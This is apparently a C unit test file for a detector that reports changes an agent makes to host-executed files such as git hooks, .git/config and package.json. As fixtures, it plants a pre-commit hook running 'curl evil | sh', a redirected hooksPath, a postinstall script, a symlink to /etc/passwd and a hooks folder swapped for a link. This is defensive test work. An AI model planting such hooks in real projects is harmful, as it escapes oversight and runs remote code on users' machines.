/* tests/unit/test_launch_hostexec.c - the project's host-executed files
 * across a launch (launch/hostexec.h): a new git hook (executable), a
 * changed .git/config and package.json with their unified diffs, a
 * removed Makefile, a hook made executable, a link swapped in (for a file,
 * for the hooks folder, for .git: nothing read through it), files
 * outside the list and unchanged ones not reported; the diff on its own
 * (hunks, context, counts as diff -u writes them). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>
#include <sys/stat.h>
#include <unistd.h>

#include "launch/hostexec.h"
#include "tests/harness/fs9p_msg.h"

static char *report(const char *dir, const struct hostexec *h, int *n)
{
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);
	assert_non_null(f);
	*n = hostexec_report(dir, h, f);
	fclose(f);
	return buf;
}

static void in(const char *hay, const char *needle)
{
	if (!strstr(hay, needle))
		fail_msg("report lacks '%s':\n%s", needle, hay);
}

static void test_report(void **state)
{
	(void)state;
	char *d = fs_test_tmpdir(), p[512];
	assert_non_null(d);
	static const char *const dirs[] = { ".git", ".git/hooks", "src" };
	for (size_t i = 0; i < 3; i++) {
		snprintf(p, sizeof(p), "%s/%s", d, dirs[i]);
		assert_int_equal(mkdir(p, 0755), 0);
	}
	assert_int_equal(fs_test_write_file(d, ".git/config", "[core]\n\tbare = false\n", 0644), 0);
	assert_int_equal(fs_test_write_file(d, "package.json", "{\n \"name\": \"x\",\n \"scripts\": {}\n}\n", 0644), 0);
	assert_int_equal(fs_test_write_file(d, "Makefile", "all:\n", 0644), 0);
	assert_int_equal(fs_test_write_file(d, ".git/hooks/pre-push.sample", "#!/bin/sh\n", 0644), 0);
	assert_int_equal(fs_test_write_file(d, "src/main.c", "int main;\n", 0644), 0);
	struct hostexec *h = calloc(1, sizeof(*h));
	assert_non_null(h);
	assert_int_equal(hostexec_snapshot(d, h), 0);
	int n;
	char *r = report(d, h, &n);
	assert_int_equal(n, 0);		/* nothing changed yet */
	free(r);
	/* what a hostile agent would do */
	assert_int_equal(fs_test_write_file(d, ".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n", 0755), 0);
	assert_int_equal(fs_test_write_file(d, ".git/config",
					    "[core]\n\tbare = false\n\thooksPath = /tmp/x\n", 0644), 0);
	assert_int_equal(fs_test_write_file(d, "package.json",
					    "{\n \"name\": \"x\",\n \"scripts\": {\"postinstall\": \"sh x\"}\n}\n", 0644), 0);
	snprintf(p, sizeof(p), "%s/Makefile", d);
	assert_int_equal(unlink(p), 0);
	snprintf(p, sizeof(p), "%s/.git/hooks/pre-push.sample", d);
	assert_int_equal(chmod(p, 0755), 0);
	snprintf(p, sizeof(p), "%s/.envrc", d);
	assert_int_equal(symlink("/etc/passwd", p), 0);
	assert_int_equal(fs_test_write_file(d, "src/main.c", "int main(void) { return 1; }\n", 0644), 0);
	r = report(d, h, &n);
	assert_int_equal(n, 6);
	in(r, "  .git/hooks/pre-commit: created (a file, executable)\n");
	in(r, "    +curl evil | sh\n");
	in(r, "  .git/config: changed\n");
	in(r, "    --- a/.git/config\n    +++ b/.git/config\n");
	in(r, "    @@ -1,2 +1,3 @@\n     [core]\n     \tbare = false\n    +\thooksPath = /tmp/x\n");
	in(r, "  package.json: changed\n");
	in(r, "    - \"scripts\": {}\n    + \"scripts\": {\"postinstall\": \"sh x\"}\n");
	in(r, "  Makefile: removed\n");
	in(r, "  .git/hooks/pre-push.sample: made executable\n");
	in(r, "  .envrc: created (a link)\n");
	in(r, "    +/etc/passwd\n");
	assert_null(strstr(r, "main.c"));	/* not on the list */
	free(r);
	hostexec_free(h);
	free(h);
	fs_test_rmrf(d);
	free(d);
}

/* The hooks folder swapped for a link to a folder of the agent's (git
 * follows it): the swap is the change reported, and nothing is read
 * through the link. */
static void test_hooks_folder_swapped_for_link(void **state)
{
	(void)state;
	char *d = fs_test_tmpdir(), p[512], q[512];
	assert_non_null(d);
	static const char *const dirs[] = { ".git", ".git/hooks", "evil" };
	for (size_t i = 0; i < 3; i++) {
		snprintf(p, sizeof(p), "%s/%s", d, dirs[i]);
		assert_int_equal(mkdir(p, 0755), 0);
	}
	assert_int_equal(fs_test_write_file(d, "evil/pre-commit", "#!/bin/sh\nXYZZY\n", 0755), 0);
	struct hostexec *h = calloc(1, sizeof(*h));
	assert_non_null(h);
	assert_int_equal(hostexec_snapshot(d, h), 0);
	snprintf(p, sizeof(p), "%s/.git/hooks", d);
	assert_int_equal(rmdir(p), 0);
	assert_int_equal(symlink("../evil", p), 0);
	int n;
	char *r = report(d, h, &n);
	assert_int_equal(n, 1);
	in(r, "  .git/hooks: replaced by a link\n");
	assert_null(strstr(r, "XYZZY"));
	free(r);
	/* .git itself a link: the same, and .git/config is not read through it */
	hostexec_free(h);
	assert_int_equal(unlink(p), 0);
	assert_int_equal(mkdir(p, 0755), 0);
	assert_int_equal(fs_test_write_file(d, ".git/config", "[core]\n", 0644), 0);
	assert_int_equal(hostexec_snapshot(d, h), 0);
	snprintf(p, sizeof(p), "%s/.git", d);
	snprintf(q, sizeof(q), "%s/git-real", d);
	assert_int_equal(rename(p, q), 0);
	assert_int_equal(symlink("git-real", p), 0);
	r = report(d, h, &n);
	in(r, "  .git: replaced by a link\n");
	in(r, "  .git/config: removed\n");	/* as seen without following the link */
	free(r);
	hostexec_free(h);
	free(h);
	fs_test_rmrf(d);
	free(d);
}

/* Hunks far apart stay apart, with three lines of context each. */
static void test_diff_hunks(void **state)
{
	(void)state;
	char a[400] = "", b[400] = "";
	for (int i = 1; i <= 20; i++) {
		snprintf(a + strlen(a), sizeof(a) - strlen(a), "l%d\n", i);
		snprintf(b + strlen(b), sizeof(b) - strlen(b), "%s\n",
			 i == 2 ? "L2" : i == 18 ? "L18" : (char[8]){ 0 });
		if (i != 2 && i != 18)
			snprintf(b + strlen(b) - 1, sizeof(b) - strlen(b) + 1, "l%d\n", i);
	}
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);
	hostexec_diff("f", a, b, f);
	fclose(f);
	in(buf, "    @@ -1,5 +1,5 @@\n     l1\n    -l2\n    +L2\n     l3\n     l4\n     l5\n");
	in(buf, "    @@ -15,6 +15,6 @@\n     l15\n     l16\n     l17\n    -l18\n    +L18\n     l19\n     l20\n");
	free(buf);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_report),
		cmocka_unit_test(test_hooks_folder_swapped_for_link),
		cmocka_unit_test(test_diff_hunks),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
